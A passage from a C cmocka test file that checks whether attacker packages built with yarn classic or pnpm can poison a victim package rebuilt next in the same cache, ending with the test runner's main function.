static void test_isolation_pm__yarn_classic_victim_is_not_poisoned(void **state)
{
    fx *f = *state;
    char *log;
    NEED_PMS(f);
    log = rebuild_attacker(f, PM_YARN);
    assert_attack_ran(log, PM_YARN);
    free(log);
    assert_victim_unpoisoned(f, PM_YARN);
}

/* A pnpm attacker (.pnpmfile.cjs) rebuilt first cannot make a pnpm victim rebuilt next in
 * the same cache reproduce its bytes. */
static void test_isolation_pm__pnpm_victim_is_not_poisoned(void **state)
{
    fx *f = *state;
    char *log;
    NEED_PMS(f);
    log = rebuild_attacker(f, PM_PNPM);
    assert_attack_ran(log, PM_PNPM);
    free(log);
    assert_victim_unpoisoned(f, PM_PNPM);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_isolation_pm__yarn_classic_victim_is_not_poisoned,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(test_isolation_pm__pnpm_victim_is_not_poisoned, setup,
                                        teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
